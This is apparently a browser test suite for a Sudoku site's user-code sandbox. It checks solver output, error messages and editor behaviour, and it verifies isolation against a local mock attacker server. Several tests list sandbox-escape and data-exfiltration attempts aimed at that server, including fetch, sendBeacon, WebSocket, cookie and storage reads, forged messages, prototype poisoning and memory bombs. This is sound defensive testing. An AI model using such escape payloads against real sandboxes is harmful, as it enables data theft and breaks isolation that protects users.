// The user's own solver in the laboratory: results, the editor, and attacks on the sandbox.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { FLAGS, SAMPLE, SITES, eventually, launch, violations, visit } from './sites.mjs';

/** Wraps statements in the function to be judged. @param {string} body */
const solver = (body) => `var solveSudoku = function(board) {\n${body}\n};`;

/**
 * A server that an attacker would use. It notes every connection and allows everything.
 * @returns {Promise<{address: string, seen: string[], close: () => void}>}
 */
async function attacker() {
  /** @type {string[]} */
  const seen = [];
  const server = createServer((request, response) => {
    seen.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end();
  });
  server.on('connection', () => seen.push('connection'));
  await new Promise((/** @type {(value?: undefined) => void} */ resolve) =>
    server.listen(0, '127.0.0.1', () => resolve()),
  );
  const { port } = /** @type {import('node:net').AddressInfo} */ (server.address());
  const close = () => {
    server.closeAllConnections();
    server.close();
  };
  return { address: `127.0.0.1:${port}`, seen, close };
}

/**
 * Opens the laboratory with the editor.
 * @param {import('playwright-core').Browser} browser
 * @param {import('./sites.mjs').Site} site
 */
async function openEditor(browser, site) {
  const visitor = await visit(browser, site, { hash: `#p=${SAMPLE}` });
  await visitor.page.click('[data-view="laboratory"]');
  await visitor.page.waitForSelector('.run');
  await visitor.page.click('#own-solver summary');
  return visitor;
}

/**
 * Runs code in the editor and returns the message.
 * @param {import('playwright-core').Page} page
 * @param {string} [code]
 */
async function runCode(page, code) {
  if (code !== undefined) await page.fill('#own-code', code);
  await page.click('#own-run');
  await page.waitForSelector('#own-run:enabled');
  return (await page.textContent('#own-status')) ?? '';
}

/** Checks that the page and the sandbox still work. @param {import('playwright-core').Page} page */
async function assertUsable(page) {
  assert.match(await runCode(page, solver("board[0][2] = '4'")), /50 cells are empty; the first one is r1c4/);
  assert.equal(await page.locator('iframe').count(), 0);
  await page.click('#lab-forward');
  assert.ok(Number(await page.textContent('#lab-step')) > 0);
  await page.keyboard.press('Home');
}

for (const open of SITES) {
  test(open.name, async (suite) => {
    /** @type {import('playwright-core').Browser} */
    let browser;
    /** @type {import('./sites.mjs').Site} */
    let site;
    suite.before(async () => {
      [browser, site] = await Promise.all([launch(), open()]);
    });
    suite.after(() => Promise.all([browser.close(), site.close()]));

    await suite.test('an invalid puzzle is not blamed on the solver', async () => {
      const hash = `#laboratory?p=55${'.'.repeat(79)}&solvers=tables`;
      const { page, faults, context } = await visit(browser, site, { hash });
      await page.click('#own-solver summary');
      assert.match(await runCode(page), /the puzzle is invalid: r1c1 and r1c2 .* both contain 5\.$/);
      assert.deepEqual(faults, []);
      await context.close();
    });

    await suite.test('a solver runs beside the textbook solvers, with its code', async () => {
      const { page, faults, context } = await openEditor(browser, site);
      assert.match(await runCode(page), /^Solved: 6,428 calls, 4,208 digits placed, 4,157 undone/);
      const own = page.locator('[data-algorithm="own"]');
      await page.waitForFunction(() => document.querySelectorAll('.run').length === 3);
      await page.waitForFunction(() => document.querySelector('#code-title')?.textContent === 'Your solver');
      // Three calls for r1c1 to r1c3, then a try and a placement.
      for (let step = 0; step < 5; step += 1) await page.click('#lab-forward');
      assert.equal(await own.locator('.square.newest').textContent(), '1');
      await eventually(async () =>
        assert.equal(await page.textContent('code.now'), '      board[row][column] = digit;'),
      );
      await page.click('#lab-end');
      assert.equal(await own.locator('.square.placed').count(), 51);
      assert.match((await own.locator('.counters').textContent()) ?? '', /calls6,428/);
      // The quiz is about a textbook solver, and shows its code.
      await page.click('#quiz-start');
      await page.waitForFunction(() => document.querySelector('#code-title')?.textContent === 'Validity tables');
      await page.click('#quiz-start');
      // The selection works as for the others, and another puzzle needs another run.
      await page.locator('#lab-algorithms').getByText('Your solver').click();
      await page.waitForFunction(() => document.querySelectorAll('.run').length === 2);
      await page.locator('#lab-algorithms').getByText('Your solver').click();
      await page.waitForFunction(() => document.querySelectorAll('.run').length === 3);
      await page.evaluate(() => (location.hash = `#p=${'.'.repeat(80)}1`));
      await page.click('[data-view="laboratory"]');
      await page.waitForFunction(() => document.querySelectorAll('.run').length === 2);
      assert.deepEqual(faults, []);
      await context.close();
    });

    await suite.test('a run survives a change of the language', async () => {
      const { page, faults, context } = await openEditor(browser, site);
      await runCode(page);
      await page.waitForSelector('[data-algorithm="own"]');
      await page.click('#show-settings');
      await page.selectOption('#language', 'zh');
      await page.click('#dialog-settings .primary');
      await page.waitForFunction(() => document.querySelector('[data-algorithm="own"] h2')?.textContent?.startsWith('你的'));
      assert.equal(await page.locator('.run').count(), 3);
      const chip = page.locator('#lab-algorithms label', { hasText: '你的' });
      assert.ok(await chip.locator('input').isChecked());
      assert.match((await page.textContent('#own-status')) ?? '', /6,428/);
      await page.click('[data-algorithm="own"] .tree-panel summary');
      await eventually(async () =>
        assert.match((await page.textContent('[data-algorithm="own"] .tree')) ?? '', /6,428 次调用、有解/),
      );
      for (const place of ['#own-status', '[data-algorithm="own"]', '#own-start'])
        assert.doesNotMatch((await page.textContent(place)) ?? '', /[A-Za-z]{5,}/, place);
      await chip.click();
      await page.waitForFunction(() => document.querySelectorAll('.run').length === 2);
      assert.deepEqual(faults, []);
      await context.close();
    });

    await suite.test('mistakes are explained, with their line', async () => {
      const { page, context } = await openEditor(browser, site);
      for (const [code, message] of /** @type {[string, RegExp][]} */ ([
        ['var solveSudoku = function(board) {\n  if (1 {\n}', /^Syntax error in line 2: /],
        [solver('\n  board[9][0] = "1";'), /^Line 3 threw an exception: TypeError/],
        [solver('const f = () => f();\n  f();'), /^Line 2 threw an exception: RangeError/],
        ['const x = 1;', /^There is no function solveSudoku/],
        [solver('board = [];'), /^The board is unchanged/],
        [solver("board[0][2] = '4';"), /^Wrong answer: 50 cells are empty/],
        [solver("board[0][3] = '1';"), /^Wrong answer: r1c4 contains 1, but the solution has 6/],
      ]))
        assert.match(await runCode(page, code), message);
      assert.match(await runCode(page, solver("console.log('r1c1 is', board[0][0]);")), /unchanged/);
      assert.equal(await page.textContent('#own-log'), 'r1c1 is 5\n');
      assert.deepEqual(await violations(page), [], 'the editor with a message and a log');
      const slow = solver("for (;;) { board[0][2] = '4'; board[0][2] = '.'; }");
      assert.match(await runCode(page, slow), /^Stopped after 5 seconds.*Only the first 30,000 of /);
      await page.waitForSelector('[data-algorithm="own"]');
      assert.deepEqual(await violations(page), [], 'a stopped solver beside the others');
      await page.fill('#own-code', solver('for (;;);'));
      await page.click('#own-run');
      await page.click('#own-stop');
      await page.waitForSelector('#own-run:enabled');
      assert.equal(await page.textContent('#own-status'), 'Stopped.');
      await assertUsable(page);
      await context.close();
    });

    await suite.test('the editor keeps the code and does not trap the keyboard', async () => {
      const { page, context } = await openEditor(browser, site);
      await page.selectOption('#own-start', 'empty');
      await page.click('#own-reset');
      await page.fill('#own-code', 'a {');
      await page.focus('#own-code');
      await page.keyboard.press('End');
      await page.keyboard.press('Tab');
      await page.keyboard.press('Enter');
      await page.keyboard.type('b');
      await page.keyboard.press('Control+a');
      await page.keyboard.press('Tab');
      assert.equal(await page.inputValue('#own-code'), '  a {  \n  b');
      await page.keyboard.press('Shift+Tab');
      assert.equal(await page.inputValue('#own-code'), 'a {  \nb');
      await page.keyboard.press('Escape');
      await page.keyboard.press('Tab');
      assert.equal(await page.evaluate(() => document.activeElement?.id), 'own-reads');
      await page.reload();
      await page.waitForSelector('html[data-ready]');
      await eventually(async () => assert.equal(await page.inputValue('#own-code'), 'a {  \nb'));
      await context.close();
    });

    await suite.test('a solver reaches nothing outside the language', async () => {
      const { page, context } = await openEditor(browser, site);
      const server = await attacker();
      const url = `http://${server.address}/`;
      const attempts = [
        `fetch('${url}')`,
        `new XMLHttpRequest().open('GET', '${url}')`,
        `new WebSocket('ws://${server.address}')`,
        `new EventSource('${url}')`,
        `new WebTransport('https://${server.address}')`,
        `navigator.sendBeacon('${url}')`,
        `importScripts('${url}')`,
        'new RTCPeerConnection()',
        "document.createElement('link')",
        `new FontFace('x', 'url(${url})').load()`,
        'navigator.serviceWorker.ready',
        'new Notification("x")',
        `new Image().src = '${url}'`,
        'document.cookie',
        'localStorage.length',
        'sessionStorage.length',
        "indexedDB.open('x')",
        "caches.open('x')",
        'navigator.storage',
        'parent.document',
        `top.location.href = '${url}'`,
        `open('${url}')`,
        `location.href = '${url}'`,
        "postMessage('forged')",
        "self.postMessage('forged')",
        "Object.getPrototypeOf(self).postMessage('forged')",
        `new Worker('${url}')`,
        `new SharedWorker('${url}')`,
        "new BroadcastChannel('x').postMessage(1)",
        'new MessageChannel()',
        "addEventListener('message', () => {})",
        'dispatchEvent(1)',
        'setTimeout(() => {})',
        'queueMicrotask(() => {})',
        'close()',
        'WebAssembly.Memory',
        'new SharedArrayBuffer(8)',
        "eval('1')",
        'process.exit()',
        'require("fs")',
      ];
      const code = solver(`
        const reached = [];
        for (const attempt of ${JSON.stringify(attempts)}) {
          try { Function(attempt)(); reached.push(attempt); } catch {}
        }
        Function("return import('${url}')")().catch(() => {});
        (async () => { for (;;) await 0; })();
        console.log(reached.join('; '));`);
      assert.match(await runCode(page, code), /unchanged/);
      // `location.href = …` in the worker sets a property of nothing, or fails.
      assert.equal(await page.textContent('#own-log'), '\n');
      await assertUsable(page);
      assert.deepEqual(server.seen, []);
      server.close();
      await context.close();
    });

    await suite.test('redefined objects and forged messages do not disturb the recording', async () => {
      const { page, context } = await openEditor(browser, site);
      const code = solver(`
        const evil = () => { throw new Error('evil') };
        Array.prototype.push = Array.prototype[Symbol.iterator] = evil;
        Object.defineProperty(Object.prototype, 'outcome', { get: evil, set: evil });
        Object.defineProperty(Object.prototype, 'then', { value: evil });
        Function.prototype.call = Function.prototype.bind = Function.prototype.apply = evil;
        String.prototype.slice = RegExp.prototype.exec = evil;
        JSON = Math = Proxy = Reflect = Uint8Array = String = null;
        Error.prepareStackTrace = evil;
        board[0][2] = '4';
        board[0][3] = { toString: evil, valueOf: evil };`);
      assert.match(await runCode(page, code), /^Wrong answer: r1c4 contains neither a digit nor "\."\.$/);
      await page.waitForSelector('[data-algorithm="own"]');
      // The page listens to no messages but those of its own channel.
      await page.evaluate(() => {
        for (let i = 0; i < 10_000; i += 1) window.postMessage({ outcome: 'returned', board: 'x' }, '*');
      });
      await assertUsable(page);
      await context.close();
    });

    await suite.test('the frame is isolated even for code that escapes from the worker', async () => {
      const { page, context } = await openEditor(browser, site);
      const server = await attacker();
      const url = `http://${server.address}/`;
      await page.evaluate(
        () =>
          new Promise((resolve) => {
            const frame = document.createElement('iframe');
            frame.src = 'sandbox.html';
            frame.addEventListener('load', resolve, { once: true });
            document.body.append(frame);
          }),
      );
      let frame = page.mainFrame();
      await eventually(async () => {
        frame = page.frames().find((other) => other.url() === 'about:srcdoc') ?? assert.fail('no frame');
      });
      const reached = await frame.evaluate(async (target) => {
        /** Fails after a while. What has been requested until then, the server has seen. */
        const later = () => new Promise((resolve, reject) => setTimeout(reject, 300));
        const load = (/** @type {string} */ name, /** @type {object} */ properties) => {
          document.body.append(Object.assign(document.createElement(name), properties));
          return later();
        };
        // Not tried: preconnect and WebRTC, which no policy forbids to a document. A worker has neither.
        /** @type {Record<string, () => unknown>} */
        const attempts = {
          fetch: () => fetch(target),
          self: () => fetch(location.href),
          beacon: () =>
            navigator.sendBeacon(target) && new Promise((resolve, reject) => setTimeout(reject, 300)),
          image: () =>
            new Promise((resolve, reject) => {
              const image = new Image();
              Object.assign(image, { onload: resolve, onerror: reject, src: target });
            }),
          script: () =>
            new Promise((resolve, reject) => {
              const script = document.createElement('script');
              Object.assign(script, { onload: resolve, onerror: reject, src: target });
              document.head.append(script);
            }),
          socket: () =>
            new Promise((resolve, reject) => {
              const socket = new WebSocket(target.replace('http', 'ws'));
              Object.assign(socket, { onopen: resolve, onerror: reject });
            }),
          events: () =>
            new Promise((resolve, reject) => {
              Object.assign(new EventSource(target), { onopen: resolve, onerror: reject });
            }),
          import: () => import(target),
          worker: () =>
            new Promise((resolve, reject) => {
              const code = `fetch('${target}').then(() => postMessage(1), () => close());
                try { importScripts('${target}'); postMessage(1) } catch {}`;
              const worker = new Worker(URL.createObjectURL(new Blob([code])));
              worker.onmessage = resolve;
              setTimeout(reject, 1000);
            }),
          ...Object.fromEntries(
            ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest'].map(
              (rel) => [rel, () => load('link', { rel, href: target, as: 'script' })],
            ),
          ),
          style: () => {
            const style = document.createElement('style');
            style.textContent = `@import '${target}'; body { background: url(${target}) }`;
            document.head.append(style);
            return later();
          },
          font: () => new FontFace('x', `url(${target})`).load(),
          video: () => load('video', { src: target }),
          object: () => load('object', { data: target }),
          ping: () => {
            const link = Object.assign(document.createElement('a'), { href: 'about:srcdoc#x', ping: target });
            document.body.append(link);
            link.click();
            return later();
          },
          transport: () => new WebTransport(target.replace('http', 'https')).ready,
          rules: () => {
            const script = document.createElement('script');
            script.type = 'speculationrules';
            script.textContent = JSON.stringify({ prefetch: [{ urls: [target] }] });
            document.head.append(script);
            return later();
          },
          storage: () => localStorage.length,
          cookie: () => document.cookie,
          database: () => indexedDB.open('x'),
          caches: () => caches.open('x'),
          parent: () => parent.document,
          page: () => parent.parent.document,
          neighbour: () => {
            parent.location.href = target;
          },
          top: () => {
            if (top) top.location.href = target;
          },
          popup: () => window.open(target) ?? Promise.reject(),
          form: () => {
            const form = document.createElement('form');
            form.action = target;
            document.body.append(form);
            form.submit();
            return new Promise((resolve, reject) => setTimeout(reject, 300));
          },
          inline: () => {
            const script = document.createElement('script');
            script.textContent = 'window.ran = true';
            document.head.append(script);
            return Reflect.get(window, 'ran') ?? Promise.reject();
          },
        };
        const names = [];
        for (const [name, attempt] of Object.entries(attempts)) {
          try {
            await attempt();
            names.push(name);
          } catch {
            // As it should be.
          }
        }
        return names;
      }, url);
      assert.deepEqual(reached, []);
      assert.deepEqual(server.seen, []);
      const navigate = (/** @type {string} */ target) => {
        document.body.append(Object.assign(document.createElement('iframe'), { src: target }));
        location.href = target;
      };
      await frame.evaluate(navigate, url).catch(() => {});
      await page.waitForTimeout(500);
      // Chromium may open a connection before it finds that the page does not allow the document.
      assert.deepEqual(
        server.seen.filter((event) => event !== 'connection'),
        [],
      );
      assert.ok(page.url().startsWith(site.address));
      await page.evaluate(() => document.querySelector('iframe')?.remove());
      // A worker that has escaped from its restrictions can send messages. The first one ends it.
      const flood = await page.evaluate(async () => {
        const { runProgram } = await import(new URL('scripts/sandbox/sandbox.js', location.href).href);
        return runProgram("for (;;) postMessage('flood'.repeat(1000))", new AbortController().signal);
      });
      assert.equal(flood, 'hung');
      await assertUsable(page);
      server.close();
      await context.close();
    });
  });
}

test('a solver that never stops or uses too much memory is ended', async (context) => {
  const [site, browser] = await Promise.all([SITES[0](), launch()]);
  context.after(() => Promise.all([browser.close(), site.close()]));
  const { page } = await openEditor(browser, site);
  assert.match(await runCode(page, solver('for (;;);')), /^Ended after 5 seconds without an answer/);
  await assertUsable(page);
  const stubborn = solver("for (;;) try { board[0][2] = '4'; board[0][2] = '.'; } catch {}");
  assert.match(await runCode(page, stubborn), /^Ended after 5 seconds without an answer/);
  const arrays = solver('const all = [];\nfor (;;) all.push(new Uint8Array(1e8).fill(1));');
  assert.match(await runCode(page, arrays), /^Line 3 threw an exception: RangeError: more than 256 MB/);
  await assertUsable(page);
});

test('a heap that overflows takes only the sandbox down', async (context) => {
  const [site, browser] = [await SITES[0](), openProtocol('--js-flags=--max-old-space-size=64')];
  context.after(() => Promise.all([browser.close(), site.close()]));
  await browser.send('Target.setDiscoverTargets', { discover: true });
  const { targetId } = await browser.send('Target.createTarget', { url: `${site.address}#laboratory?p=${SAMPLE}` });
  const { sessionId } = await browser.send('Target.attachToTarget', { targetId, flatten: true });
  const evaluate = async (/** @type {string} */ expression) => {
    const params = { expression: `(async () => { ${expression} })()`, awaitPromise: true };
    return (await browser.send('Runtime.evaluate', params, sessionId)).result.value;
  };
  await eventually(async () => assert.ok(await evaluate("return document.querySelector('.run') !== null")));
  const run = (/** @type {string} */ code) =>
    evaluate(`
      document.querySelector('#own-code').value = ${JSON.stringify(code)};
      document.querySelector('#own-run').click();
      while (document.querySelector('#own-run').disabled) await new Promise((done) => setTimeout(done, 50));
      return document.querySelector('#own-status').textContent;`);
  const bomb = 'const all = []; for (;;) all.push(new Array(1e6).fill(all.length));';
  assert.match(await run(solver(bomb)), /^Ended after 5 seconds without an answer/);
  assert.deepEqual(
    browser.events.filter(({ method }) => method === 'Target.targetCrashed').map(({ params }) => params.targetId === targetId),
    [false],
  );
  assert.match(await run(solver("board[0][2] = '4'")), /^Wrong answer: 50 cells are empty/);
});

/**
 * Starts a browser and talks to it in its own protocol: Playwright gives up a page if one of its frames crashes.
 * @param {...string} flags of the browser
 */
function openProtocol(...flags) {
  const profile = mkdtempSync(join(tmpdir(), 'veridoku-'));
  const browser = spawn(
    process.env.CHROMIUM ?? '/usr/bin/chromium',
    ['--headless', ...FLAGS, '--remote-debugging-pipe', `--user-data-dir=${profile}`, ...flags],
    { stdio: ['ignore', 'ignore', 'ignore', 'pipe', 'pipe'] },
  );
  const [input, output] = /** @type {[import('node:stream').Writable, import('node:stream').Readable]} */ (
    /** @type {unknown} */ (browser.stdio.slice(3))
  );
  /** @type {Map<number, (result: any) => void>} */
  const waiting = new Map();
  /** @type {any[]} */
  const events = [];
  let received = '';
  output.on('data', (chunk) => {
    const messages = (received + chunk).split('\0');
    received = messages.pop() ?? '';
    for (const message of messages.map((text) => JSON.parse(text)))
      if (message.id) waiting.get(message.id)?.(message.result);
      else events.push(message);
  });
  /** @param {string} method @param {object} params @param {string} [sessionId] @returns {Promise<any>} */
  const send = (method, params, sessionId) =>
    new Promise((resolve) => {
      const id = waiting.size + 1;
      waiting.set(id, resolve);
      input.write(`${JSON.stringify({ id, method, params, sessionId })}\0`);
    });
  const close = async () => {
    const exited = new Promise((resolve) => browser.once('exit', resolve));
    void send('Browser.close', {});
    await exited;
    rmSync(profile, { recursive: true, force: true });
  };
  return { send, close, events };
}
